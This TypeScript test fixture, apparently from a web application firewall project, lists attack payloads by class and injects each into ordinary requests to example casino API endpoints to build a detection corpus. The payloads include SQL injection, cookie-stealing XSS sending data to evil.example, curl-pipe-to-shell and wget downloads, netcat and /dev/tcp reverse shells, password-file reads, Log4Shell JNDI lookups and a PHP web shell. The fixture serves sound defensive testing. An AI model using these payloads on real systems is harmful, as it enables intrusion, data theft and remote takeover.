// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell and Log4Shell payloads are literal strings
// Attack payloads written for this project from public knowledge of each class (not copied from the
// CRS suite), injected into different parts of otherwise ordinary requests.
import type { WafRequest } from "../../../src/waf/index.ts";

export const ATTACK_PAYLOADS: Record<string, readonly string[]> = {
  sqli: [
    "' OR '1'='1",
    "' OR 1=1 -- -",
    "admin' #",
    "1' AND SLEEP(5) AND '1'='1",
    "1 AND 1=2 UNION SELECT username, password FROM users--",
    "-1 UNION ALL SELECT NULL,NULL,version()--",
    "1; DROP TABLE transactions; --",
    "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
    "1' ORDER BY 3--+",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,(SELECT database()),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    "1' AND extractvalue(1,concat(0x7e,(select user())))-- ",
    "'; WAITFOR DELAY '0:0:5'--",
    "1) OR (1=1",
    '" or ""="',
    "1 or pg_sleep(5)--",
    "') or ('a'='a",
    "1'||(SELECT CHR(65)||CHR(66) FROM dual)||'",
    "1 AND ascii(substring((select password from users limit 1),1,1))>64",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "1/*!50000UNION*//*!50000SELECT*/1,2,3",
    "' or 1 like 1#",
    "admin'/**/OR/**/'1'='1",
    "1%27%20OR%20%271%27%3D%271",
    '{"$ne": null}',
  ],
  xss: [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert`1`>",
    "\"><script>fetch('//evil.example/?c='+document.cookie)</script>",
    "javascript:alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "' onmouseover='alert(1)",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "<input autofocus onfocus=alert(1)>",
    '";alert(String.fromCharCode(88,83,83));//',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<video><source onerror="alert(1)">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ScRiPt>prompt(1)</sCrIpT>",
    '<div style="background:url(javascript:alert(1))">',
  ],
  rce: [
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "`uname -a`",
    "$(curl -s http://evil.example/x.sh | sh)",
    "127.0.0.1; nc -e /bin/sh 10.0.0.1 4444",
    "; wget http://evil.example/shell -O /tmp/s; chmod +x /tmp/s; /tmp/s",
    "|| ping -c 10 127.0.0.1",
    ";${IFS}cat${IFS}/etc/shadow",
    "a;c\\at /e\\tc/pa\\sswd",
    "() { :; }; /bin/bash -c 'id'",
    "| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "& cmd /c dir c:\\",
    "; python3 -c 'import os;os.system(\"id\")'",
    "|/usr/bin/id",
    "x; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
  ],
  lfi: [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fproc/self/environ",
    "/var/www/../../etc/hosts",
    "..%c0%af..%c0%afetc/passwd",
    "file:///etc/passwd",
    "../../../../../../.env",
    "/proc/self/cmdline",
  ],
  rfi: ["http://203.0.113.7/shell.txt?", "https://198.51.100.23/c99.php", "ftp://203.0.113.9/payload.txt?"],
  php: [
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    'O:8:"stdClass":1:{s:4:"test";s:3:"abc";}',
    "<?= `id` ?>",
    "eval(base64_decode('cGhwaW5mbygpOw=='));",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "$_POST['x']($_POST['y'])",
  ],
  java: [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:r}mi://evil.example/x}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "org.apache.commons.collections.functors.InvokerTransformer",
  ],
};

type Placement = (payload: string) => WafRequest;

function headers(extra: Record<string, string> = {}): Headers {
  return new Headers({
    host: "api.casino.example.com",
    "user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    accept: "application/json",
    ...extra,
  });
}

const PLACEMENTS: Placement[] = [
  (payload) => ({
    method: "GET",
    url: `https://api.casino.example.com/v1/games?q=${encodeURIComponent(payload)}&page=1`,
    headers: headers(),
    body: null,
    contentType: null,
  }),
  (payload) => ({
    method: "POST",
    url: "https://api.casino.example.com/v1/support/tickets",
    headers: headers({ "content-type": "application/json" }),
    body: JSON.stringify({ subject: "Help", message: payload, priority: 2 }),
    contentType: "application/json",
  }),
  (payload) => ({
    method: "POST",
    url: "https://casino.example.com/login",
    headers: headers({ "content-type": "application/x-www-form-urlencoded" }),
    body: `username=${encodeURIComponent(payload)}&remember=on`,
    contentType: "application/x-www-form-urlencoded",
  }),
  (payload) => ({
    method: "GET",
    url: "https://api.casino.example.com/v1/me",
    headers: headers({ cookie: `lang=en; pref=${encodeURIComponent(payload)}` }),
    body: null,
    contentType: null,
  }),
  (payload) => ({
    method: "POST",
    url: "https://api.casino.example.com/v1/wallet/deposits",
    headers: headers({ "content-type": "application/json" }),
    body: JSON.stringify({ amount: "1000", currency: "EUR", returnUrl: payload }),
    contentType: "application/json",
  }),
];

export function attackCorpus(): { family: string; request: WafRequest }[] {
  const out: { family: string; request: WafRequest }[] = [];
  for (const [family, payloads] of Object.entries(ATTACK_PAYLOADS)) {
    for (const payload of payloads)
      for (const place of PLACEMENTS) out.push({ family, request: place(payload) });
  }
  return out;
}
